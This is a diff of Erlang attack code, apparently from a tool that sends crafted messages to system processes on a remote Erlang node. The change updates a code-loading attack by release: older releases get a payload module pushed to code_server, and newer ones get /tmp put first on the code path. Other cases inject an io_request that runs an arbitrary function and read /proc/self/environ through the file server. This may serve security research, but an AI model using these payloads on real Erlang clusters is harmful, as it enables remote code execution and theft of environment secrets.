@@ -125,8 +125,17 @@ send_attack(io_request, Target, Self, Tag) ->
     Target ! {io_request, Self, Tag, {put_chars, unicode, erlang, send, [Self, {pwned, Tag}]}},
     none;
 send_attack(code_load, Target, Self, _Tag) ->
-    {Mod, Bin} = payload_module(),
-    Target ! {code_call, Self, {load_binary, Mod, atom_to_list(Mod) ++ ".erl", Bin}},
+    %% Up to OTP 25 code_server loads a binary sent to it; from 26 loading
+    %% needs prepared code (a local magic reference), so the remote door is
+    %% the code path: a directory of the attacker's choice first in it.
+    Request = case list_to_integer(erlang:system_info(otp_release)) of
+                  Rel when Rel =< 25 ->
+                      {Mod, Bin} = payload_module(),
+                      {load_binary, Mod, atom_to_list(Mod) ++ ".erl", Bin};
+                  _ ->
+                      {add_path, first, "/tmp", nocache}
+              end,
+    Target ! {code_call, Self, Request},
     code_server;
 send_attack(file_read, Target, Self, Tag) ->
     Target ! {'$gen_call', {Self, Tag}, {read_file, "/proc/self/environ"}},
